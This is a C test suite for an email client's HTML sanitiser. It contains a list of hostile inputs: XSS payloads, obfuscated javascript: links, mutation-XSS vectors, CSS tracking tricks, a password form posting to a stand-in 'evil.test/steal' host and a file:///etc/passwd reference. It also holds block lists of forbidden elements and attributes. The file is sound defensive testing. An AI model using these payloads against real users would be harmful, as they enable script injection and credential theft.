/* test-message-display-sanitize.c
 *
 * SPDX-FileCopyrightText: 2026 The Kabar developers
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * The body's HTML against hostile mail: whatever goes in, what comes out
 * has no script, no handler, no form, no frame, and with remote content
 * off nothing in any place that fetches names the network. The output is
 * checked by walking it as parsed here, not with the sanitiser's own
 * code. Then the model's API: cid: images, attachments' bytes, errors,
 * the worker thread, dates.
 */

#include "config.h"

#include <string.h>

#include "kabar-test-wait.h"
#include "test-message-display-summary.h"

/* Each with whether it has remote content. */
static const struct
{
  const char *html;
  gboolean    remote;
} hostile[] = {
  { "<script>alert(1)</script><p>hi</p>", FALSE },
  { "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>", FALSE },
  { "<img src=x onerror=alert(1)>", FALSE },
  { "<body onload=alert(1)><p onclick='x()' onmouseover=\"y()\">t</p></body>", FALSE },
  { "<a href=\"javascript:alert(1)\">j</a><a href=\" jAvA\tsCrIpT:alert(1)\">k</a>", FALSE },
  { "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"data:text/html,<script>alert(1)</script>\">d</a>", FALSE },
  { "<a href=\"&#106;avascript:alert(1)\">e</a><a href=\"java&#x0A;script:alert(1)\">f</a>", FALSE },
  { "<iframe src=\"https://evil.test/\"></iframe><frameset><frame src=x></frameset>", FALSE },
  { "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/e\">", FALSE },
  { "<applet code=x archive=\"http://evil.test/a.jar\"></applet>", FALSE },
  { "<form action=\"https://evil.test/steal\"><input name=p type=password>"
    "<input type=image src=\"https://evil.test/i.png\"><button formaction=\"https://evil.test/\">b</button>"
    "<select><option>o</select><textarea>t</textarea></form>", FALSE },
  { "<meta http-equiv=refresh content=\"0;url=https://evil.test/\"><base href=\"https://evil.test/\">", FALSE },
  { "<link rel=stylesheet href=\"https://evil.test/s.css\">", TRUE },
  { "<img src=\"https://track.test/p.gif\" width=1 height=1>", TRUE },
  { "<img src=\"//track.test/p.gif\">", TRUE },
  { "<img src=\" HTTPS://track.test/p.gif\">", TRUE },
  { "<img srcset=\"cid:a 1x, https://track.test/p.gif 2x\">", TRUE },
  { "<table background=\"https://track.test/bg.png\"><tr><td background=\"http://track.test/td\">x</td></tr></table>", TRUE },
  { "<div style=\"background:url(https://track.test/s.png)\">s</div>", TRUE },
  { "<div style=\"background:URL( 'https://track.test/s.png' )\">s</div>", TRUE },
  { "<div style=\"background:\\75 rl(https://track.test/e.png)\">escaped</div>", TRUE },
  { "<div style=\"background-image:image-set('https://track.test/i.png' 1x)\">set</div>", TRUE },
  { "<style>@import url(https://track.test/i.css); p{color:red}</style>", TRUE },
  { "<style>@import 'https://track.test/i.css';</style>", TRUE },
  { "<style>@font-face{font-family:x;src:url(https://track.test/f.woff)}</style>", TRUE },
  { "<style>p{background:u\\rl(https://track.test/b.png)}</style>", TRUE },
  { "<video poster=\"https://track.test/p.jpg\" src=\"https://track.test/v.mp4\">"
    "<source src=\"https://track.test/s.mp4\"><track src=\"https://track.test/t.vtt\"></video>", TRUE },
  { "<audio src=\"https://track.test/a.mp3\"></audio>", TRUE },
  { "<svg><image href=\"https://track.test/s.png\"/><use xlink:href=\"https://track.test/u.svg#a\"/>"
    "<script>alert(1)</script></svg>", FALSE },
  { "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", FALSE },
  { "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", FALSE },
  { "<style>p{color:red}</style><style>x{}</style></style><script>alert(1)</script>", FALSE },
  { "<style>p{content:\"</style><script>alert(1)</script>\"}</style>", FALSE },
  { "<div style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#x)\">e</div>", FALSE },
  { "<div style=\"position:fixed;top:0;left:0;width:100%\" class=\"kabar-attachment\">fake</div>", FALSE },
  { "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>", FALSE },
  { "<a href=\"https://ok.test/\" target=_blank ping=\"https://track.test/ping\">p</a>", FALSE },
  { "<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">", FALSE },
  { "<img src=\"file:///etc/passwd\"><img src=\"about:blank\"><img src=\"x.png\">", FALSE },
  { "<div style=\"background:url(javascript:alert(1))\">j</div>", FALSE },
  { "<isindex action=\"https://evil.test/\"><keygen><template><script>alert(1)</script></template>", FALSE },
  { "<p><xmp><script>alert(1)</script></xmp></p>", FALSE },
  { "<img src=\"https://a.test/1.png\" srcset=\"https://a.test/2.png 2x\" "
    "style=\"background:url(http://a.test/3.png)\">", TRUE },
};

static const char * const forbidden_elements[] = {
  "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param", "form", "input",
  "button", "select", "option", "textarea", "meta", "base", "svg", "math", "noscript", "template",
  "isindex", "keygen", "xmp", "image", "use", NULL,
};

/* Where a URL is fetched as the page is shown. */
static const char * const fetching_attributes[] = {
  "src", "srcset", "background", "poster", "data", "action", "formaction", "xlink:href",
  "lowsrc", "dynsrc", "codebase", "archive", "ping", "manifest", "longdesc", "cite", NULL,
};

static gboolean
in_list (const char * const *list,
         const char         *name)
{
  for (guint i = 0; list[i] != NULL; i++)
    if (g_ascii_strcasecmp (list[i], name) == 0)
      return TRUE;
  return FALSE;
}

/* As a browser reads a URL: white space and controls out, lower case. */
static char *
normal_url (const char *value)
{
  GString *out = g_string_new (NULL);

  for (const char *p = value; *p != '\0'; p++)
    if ((guchar) *p > 0x20)
      g_string_append_c (out, g_ascii_tolower (*p));
  return g_string_free (out, FALSE);
}

/* What the checker found wrong, first problem only; the checker is run
 * on raw input too, to show it can fail. */
static char *problem;

G_GNUC_PRINTF (1, 2)
static void
report (const char *format,
        ...)
{
  va_list args;

  if (problem != NULL)
    return;
  va_start (args, format);
  problem = g_strdup_vprintf (format, args);
  va_end (args);
}

static gboolean
is_allowed_fetch (const char *url,
                  gboolean    remote)
{
  if (g_str_has_prefix (url, "cid:"))
    return TRUE;
  if (g_str_has_prefix (url, "data:image/") && !g_str_has_prefix (url, "data:image/svg"))
    return TRUE;
  return remote && (g_str_has_prefix (url, "http://") || g_str_has_prefix (url, "https://"));
}

/* Every url( in the CSS names something allowed, and nothing else fetches
 * or runs. */
/* CSS escapes ("\\75 rl(", "u\\rl(") undone, as the browser reads them. */
static char *
css_unescaped (const char *css)
{
  GString *out = g_string_new (NULL);

  for (const char *p = css; *p != '\0'; p++)
    {
      if (*p != '\\' || p[1] == '\0')
        {
          g_string_append_c (out, *p);
          continue;
        }
      if (g_ascii_isxdigit (p[1]))
        {
          char *end = NULL;
          g_autofree char *digits = g_strndup (p + 1, 6);
          guint64 code = g_ascii_strtoull (digits, &end, 16);

          g_string_append_unichar (out, code > 0 && code < 0x110000 ? (gunichar) code : 0xFFFD);
          p += end - digits;
          if (p[1] == ' ')
            p++;
        }
      else
        g_string_append_c (out, *++p);
    }
  return g_string_free (out, FALSE);
}

static void
check_css (const char *css,
           gboolean    remote,
           const char *input)
{
  g_autofree char *plain = css_unescaped (css);
  g_autofree char *lower = normal_url (plain);

  for (const char *p = lower; (p = strstr (p, "url(")) != NULL; p += 4)
    {
      const char *url = p + 4;

      while (*url == '\'' || *url == '"')
        url++;
      if (!is_allowed_fetch (url, remote))
        report ("CSS \"%s\" fetches from the network (input: %s)", css, input);
    }
  if (!remote && (strstr (lower, "@import") != NULL || strstr (lower, "image-set(") != NULL))
    report ("CSS \"%s\" imports or fetches (input: %s)", css, input);
  if (strstr (lower, "expression(") != NULL || strstr (lower, "behavior:") != NULL
      || strstr (lower, "-moz-binding") != NULL || strstr (lower, "</style") != NULL
      || strstr (lower, "javascript:") != NULL)
    report ("CSS \"%s\" could run script (input: %s)", css, input);
  if (strstr (lower, "position:fixed") != NULL)
    report ("CSS \"%s\" lies over the view (input: %s)", css, input);
}

static void
check_attribute (xmlNodePtr  node,
                 xmlAttrPtr  attribute,
                 gboolean    remote,
                 const char *input)
{
  const char *name = (const char *) attribute->name;
  xmlChar *value = xmlNodeListGetString (node->doc, attribute->children, 1);
  g_autofree char *url = normal_url (value != NULL ? (const char *) value : "");

  xmlFree (value);
  if (g_ascii_strncasecmp (name, "on", 2) == 0)
    report ("handler %s on <%s> (input: %s)", name, node->name, input);
  if (g_str_equal (name, "style"))
    check_css (url, remote, input);
  if (g_str_equal (name, "class") && strstr (url, "kabar-attachment") != NULL && !g_str_equal (node->name, "div"))
    report ("a sender's element dressed as Kabar's (input: %s)", input);
  if (g_str_equal (name, "href"))
    {
      gboolean is_link = g_str_equal (node->name, "a") || g_str_equal (node->name, "area");

      if (is_link && !(g_str_has_prefix (url, "http://") || g_str_has_prefix (url, "https://")
                       || g_str_has_prefix (url, "mailto:") || url[0] == '#'))
        report ("link to \"%s\" (input: %s)", url, input);
      if (!is_link && !is_allowed_fetch (url, remote))
        report ("<%s href=\"%s\"> fetches (input: %s)", node->name, url, input);
    }
  if (in_list (fetching_attributes, name))
    {
      g_auto(GStrv) candidates = g_strsplit (url, ",", -1);

      for (guint i = 0; candidates[i] != NULL; i++)
        if (candidates[i][0] != '\0' && !is_allowed_fetch (candidates[i], remote)
            && !g_ascii_isdigit (candidates[i][0]))
          report ("<%s %s=\"%s\"> fetches or runs (input: %s)", node->name, name, url, input);
    }
}

static void
check_tree (xmlNodePtr  node,
            gboolean    remote,
            const char *input)
{
  for (xmlNodePtr child = node->children; child != NULL; child = child->next)
    {
      if (child->type == XML_COMMENT_NODE)
        report ("a comment is left (input: %s)", input);
      if (child->type != XML_ELEMENT_NODE)
        continue;
      if (in_list (forbidden_elements, (const char *) child->name))
        report ("<%s> is left (input: %s)", child->name, input);
      if (g_str_equal (child->name, "link") && !remote)
        report ("<link> is left with remote content off (input: %s)", input);
      if (g_str_equal (child->name, "style"))
        {
          xmlChar *css = xmlNodeGetContent (child);

          check_css ((const char *) css, remote, input);
          xmlFree (css);
        }
      for (xmlAttrPtr attribute = child->properties; attribute != NULL; attribute = attribute->next)
        check_attribute (child, attribute, remote, input);
      check_tree (child, remote, input);
    }
}

/* NULL when html is safe, else what is wrong with it. */
static char *
check_html (const char *html,
            gboolean    remote,
            const char *input)
{
  htmlDocPtr doc = kabar_display_summary_parse_html (html);
  g_autofree char *lower = g_ascii_strdown (html, -1);

  xmlNodePtr root = xmlDocGetRootElement (doc);
  xmlNodePtr body = NULL;

  /* The head is Kabar's own (its charset and stylesheet); all of the
   * message is in the body. */
  for (xmlNodePtr child = root->children; child != NULL; child = child->next)
    if (child->type == XML_ELEMENT_NODE && g_str_equal (child->name, "body"))
      body = child;
  g_assert_nonnull (body);
  check_tree (body, remote, input);
  xmlFreeDoc (doc);
  /* Whatever the parse, the script itself is not in the text. */
  if (strstr (lower, "<script") != NULL || strstr (lower, "alert(1)</script") != NULL)
    report ("script text is left:\n%s\n(input: %s)", html, input);
  return g_steal_pointer (&problem);
}

static void
assert_safe (const char *html,
             gboolean    remote,
             const char *input)
{
  g_autofree char *found = check_html (html, remote, input);

  if (found != NULL)
    g_error ("%s", found);
}

static KabarMessageDisplay *
display_html (const char        *html,
              KabarDisplayFlags  flags)
{
  g_autofree char *raw = g_strdup_printf ("From: Sender <sender@kabar.test>\n"
                                          "To: dewi@kabar.test\n"
                                          "Subject: HTML\n"
                                          "MIME-Version: 1.0\n"
                                          "Content-Type: text/html; charset=utf-8\n"
                                          "\n%s\n", html);
  g_autoptr(GBytes) bytes = g_bytes_new (raw, strlen (raw));
  g_autoptr(GError) error = NULL;
  KabarMessageDisplay *display = kabar_message_display_new (bytes, flags, NULL, &error);

  g_assert_no_error (error);
  return display;
}

static void
test_hostile (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autoptr(KabarMessageDisplay) display = display_html (hostile[i].html, KABAR_DISPLAY_FLAGS_NONE);

      assert_safe (kabar_message_display_get_html (display, FALSE), FALSE, hostile[i].html);
      assert_safe (kabar_message_display_get_html (display, TRUE), TRUE, hostile[i].html);
      if (kabar_message_display_has_remote_content (display) != hostile[i].remote)
        g_error ("remote content %s, expected %s (input: %s)",
                 kabar_message_display_has_remote_content (display) ? "found" : "not found",
                 hostile[i].remote ? "some" : "none", hostile[i].html);
    }
}

/* The checker finds something wrong in every hostile input as it
 * came: the test above cannot pass by checking nothing. */
static void
test_checker_fails_raw_input (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autofree char *document = g_strconcat ("<html><body>", hostile[i].html, "</body></html>", NULL);
      g_autofree char *found = check_html (document, FALSE, hostile[i].html);

      if (found == NULL)
        g_error ("the checker finds nothing wrong with the raw input %s", hostile[i].html);
    }
}

/* With remote content on, what the user asked for is there. */
static void
test_remote_on_keeps_http (void)
{
  g_autoptr(KabarMessageDisplay) display =
    display_html ("<p>Newsletter</p><img src=\"https://news.kabar.test/banner.png\" alt=\"Banner\">"
                  "<div style=\"background:url(http://news.kabar.test/bg.png)\">x</div>"
                  "<link rel=stylesheet href=\"https://news.kabar.test/s.css\">",
                  KABAR_DISPLAY_FLAGS_NONE);
  const char *off = kabar_message_display_get_html (display, FALSE);
  const char *on = kabar_message_display_get_html (display, TRUE);

  g_assert_cmpuint (kabar_message_display_get_n_remote (display), ==, 3);
  g_assert_null (strstr (off, "news.kabar.test"));
  g_assert_nonnull (strstr (on, "src=\"https://news.kabar.test/banner.png\""));
  g_assert_nonnull (strstr (on, "url(http://news.kabar.test/bg.png)"));
  g_assert_nonnull (strstr (on, "href=\"https://news.kabar.test/s.css\""));
  /* The same document is given each time. */
  g_assert_true (on == kabar_message_display_get_html (display, TRUE));
}

/* Links keep their real target, for the view's hover; the text stays
 * even where the link goes. */
static void
test_links (void)
{
  g_autoptr(KabarMessageDisplay) display =
    display_html ("<a href=\"https://bank.kabar.test/login?a=1&amp;b=2\">https://bank.example/</a>"
                  "<a href=\"mailto:dewi@kabar.test\">mail</a><a href=\"javascript:void(0)\">Click</a>",
                  KABAR_DISPLAY_FLAGS_NONE);
  const char *html = kabar_message_display_get_html (display, FALSE);

  g_assert_nonnull (strstr (html, "href=\"https://bank.kabar.test/login?a=1&amp;b=2\""));
  g_assert_nonnull (strstr (html, "href=\"mailto:dewi@kabar.test\""));
  g_assert_nonnull (strstr (html, ">Click</a>"));
  g_assert_null (strstr (html, "void(0)"));
}

static const char related_message[] =
  "From: Sender <sender@kabar.test>\n"
  "To: dewi@kabar.test\n"
  "Subject: Logo\n"
  "MIME-Version: 1.0\n"
  "Content-Type: multipart/related; boundary=\"b\"\n"
  "\n"
  "--b\n"
  "Content-Type: text/html; charset=utf-8\n"
  "\n"
  "<p>Our logo: <img src=\"cid:logo@kabar.test\"></p>\n"
  "--b\n"
  "Content-Type: image/png\n"
  "Content-ID: <logo@kabar.test>\n"
  "Content-Transfer-Encoding: base64\n"
  "\n"
  "iVBORw0KGgo=\n"
  "--b\n"
  "Content-Type: application/pdf; name=\"report.pdf\"\n"
  "Content-Disposition: attachment; filename=\"report.pdf\"\n"
  "\n"
  "%PDF-1.4 not really\n"
  "--b--\n";

static KabarMessageDisplay *
display_raw (const char *raw)
{
  g_autoptr(GBytes) bytes = g_bytes_new_static (raw, strlen (raw));
  g_autoptr(GError) error = NULL;
  KabarMessageDisplay *display = kabar_message_display_new (bytes, KABAR_DISPLAY_FLAGS_NONE, NULL, &error);

  g_assert_no_error (error);
  return display;
}

static void
test_cid (void)
{
  g_autoptr(KabarMessageDisplay) display = display_raw (related_message);
  g_autofree char *type = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) logo = kabar_message_display_dup_cid_data (display, "cid:logo@kabar.test", &type, &error);
  g_autoptr(GBytes) again = kabar_message_display_dup_cid_data (display, "<logo@kabar.test>", NULL, NULL);
  g_autoptr(GBytes) missing = NULL;
  GPtrArray *attachments = kabar_message_display_get_attachments (display);

  g_assert_no_error (error);
  g_assert_cmpstr (type, ==, "image/png");
  g_assert_cmpmem (g_bytes_get_data (logo, NULL), g_bytes_get_size (logo), "\x89PNG\r\n\x1a\n", 8);
  g_assert_true (g_bytes_equal (logo, again));
  /* The logo is shown in place: only the report is listed. */
  g_assert_cmpuint (attachments->len, ==, 1);
  g_assert_cmpstr (((KabarDisplayAttachment *) g_ptr_array_index (attachments, 0))->file_name, ==, "report.pdf");
  g_assert_nonnull (strstr (kabar_message_display_get_html (display, FALSE), "src=\"cid:logo@kabar.test\""));
  missing = kabar_message_display_dup_cid_data (display, "cid:other@kabar.test", NULL, &error);
  g_assert_null (missing);
  g_assert_error (error, KABAR_DISPLAY_ERROR, KABAR_DISPLAY_ERROR_NO_SUCH_ATTACHMENT);
  g_assert_nonnull (strstr (error->message, "other@kabar.test"));
}

/* A cid: URL with broken percent escapes is still a reference, and an
 * image with that content ID is still found. Found by the fuzz target:
 * it once crashed the model. */
static void
test_cid_broken_escapes (void)
{
  static const char raw[] =
    "From: Sender <sender@kabar.test>\n"
    "Subject: Broken cid\n"
    "MIME-Version: 1.0\n"
    "Content-Type: multipart/related; boundary=\"b\"\n"
    "\n"
    "--b\n"
    "Content-Type: text/html; charset=utf-8\n"
    "\n"
    "<img src=\"cid:a%zz\"><img src=\"cid:b%00c\">\n"
    "--b\n"
    "Content-Type: image/png\n"
    "Content-ID: <a%zz>\n"
    "\n"
    "png\n"
    "--b\n"
    "Content-Type: image/gif\n"
    "Content-ID: <other@kabar.test>\n"
    "\n"
    "gif\n"
    "--b--\n";
  g_autoptr(KabarMessageDisplay) display = display_raw (raw);
  GPtrArray *attachments = kabar_message_display_get_attachments (display);
  g_autoptr(GBytes) png = kabar_message_display_dup_cid_data (display, "cid:a%zz", NULL, NULL);

  g_assert_nonnull (png);
  g_assert_cmpuint (attachments->len, ==, 1);
  g_assert_cmpstr (((KabarDisplayAttachment *) g_ptr_array_index (attachments, 0))->content_id, ==, "other@kabar.test");
}

static void
test_attachment_data (void)
{
  g_autoptr(KabarMessageDisplay) display = display_raw (related_message);
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) report = kabar_message_display_dup_attachment_data (display, 0, &error);
  g_autoptr(GBytes) none = NULL;

  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (report, NULL), g_bytes_get_size (report), "%PDF-1.4 not really", 19);
  none = kabar_message_display_dup_attachment_data (display, 1, &error);
  g_assert_null (none);
  g_assert_error (error, KABAR_DISPLAY_ERROR, KABAR_DISPLAY_ERROR_NO_SUCH_ATTACHMENT);
  g_assert_nonnull (strstr (error->message, "has 1"));
}

static void
test_not_a_message (void)
{
  g_autoptr(GBytes) empty = g_bytes_new_static ("", 0);
  g_autoptr(GError) error = NULL;
  g_autoptr(KabarMessageDisplay) display = kabar_message_display_new (empty, KABAR_DISPLAY_FLAGS_NONE, NULL, &error);

  g_assert_null (display);
  g_assert_error (error, KABAR_DISPLAY_ERROR, KABAR_DISPLAY_ERROR_NOT_A_MESSAGE);
  g_assert_nonnull (strstr (error->message, "empty"));
}

static void
test_source_text (void)
{
  static const char raw[] = "Subject: caf\xe9\r\nX-Nul: a\0b\r\n\r\nbody\rend\n";
  g_autoptr(GBytes) bytes = g_bytes_new_static (raw, sizeof raw - 1);
  g_autoptr(KabarMessageDisplay) display = kabar_message_display_new (bytes, KABAR_DISPLAY_FLAGS_NONE, NULL, NULL);
  g_autofree char *source = kabar_message_display_dup_source_text (display);

  g_assert_true (g_bytes_equal (kabar_message_display_get_raw (display), bytes));
  g_assert_cmpstr (source, ==, "Subject: caf\xEF\xBF\xBD\nX-Nul: a\xEF\xBF\xBD" "b\n\nbody\nend\n");
  /* The 8-bit subject is read as windows-1252, the charset such mail has. */
  g_assert_cmpstr (kabar_message_display_get_subject (display), ==, "café");
}

/* Built on a worker thread, reported on the caller's. */
static void
test_async (void)
{
  g_autoptr(GBytes) bytes = g_bytes_new_static (related_message, strlen (related_message));
  GAsyncResult *slot = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(KabarMessageDisplay) display = NULL;
  g_autoptr(GError) error = NULL;

  kabar_message_display_new_async (bytes, KABAR_DISPLAY_FLAGS_NONE, NULL, NULL, kabar_test_wait_done, &slot);
  result = kabar_test_wait (&slot);
  display = kabar_message_display_new_finish (result, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (kabar_message_display_get_subject (display), ==, "Logo");
}

static void
test_format_date (void)
{
  g_autoptr(GTimeZone) jakarta = g_time_zone_new_identifier ("Asia/Jakarta");
  g_autoptr(GDateTime) now = g_date_time_new (jakarta, 2026, 11, 22, 9, 30, 0);
  /* 01:05 UTC is 08:05 in Jakarta: today there. */
  g_autoptr(GDateTime) today = g_date_time_new_utc (2026, 11, 22, 1, 5, 0);
  /* 20:00 UTC the day before is 03:00 today in Jakarta too. */
  g_autoptr(GDateTime) late = g_date_time_new_utc (2026, 11, 21, 20, 0, 0);
  g_autoptr(GDateTime) yesterday = g_date_time_new_utc (2026, 11, 21, 10, 0, 0);
  g_autofree char *today_text = kabar_display_format_date (today, now);
  g_autofree char *late_text = kabar_display_format_date (late, now);
  g_autofree char *yesterday_text = kabar_display_format_date (yesterday, now);

  g_assert_nonnull (jakarta);
  g_assert_cmpstr (today_text, ==, "08:05");
  g_assert_cmpstr (late_text, ==, "03:00");
  /* The C locale's short date. */
  g_assert_cmpstr (yesterday_text, ==, "11/21/26");
}

int
main (int    argc,
      char **argv)
{
  g_setenv ("TZ", "UTC", TRUE);
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/message-display/sanitize/hostile", test_hostile);
  g_test_add_func ("/message-display/sanitize/checker-fails-raw-input", test_checker_fails_raw_input);
  g_test_add_func ("/message-display/sanitize/remote-on", test_remote_on_keeps_http);
  g_test_add_func ("/message-display/sanitize/links", test_links);
  g_test_add_func ("/message-display/cid", test_cid);
  g_test_add_func ("/message-display/cid-broken-escapes", test_cid_broken_escapes);
  g_test_add_func ("/message-display/attachment-data", test_attachment_data);
  g_test_add_func ("/message-display/not-a-message", test_not_a_message);
  g_test_add_func ("/message-display/source-text", test_source_text);
  g_test_add_func ("/message-display/async", test_async);
  g_test_add_func ("/message-display/format-date", test_format_date);
  return g_test_run ();
}
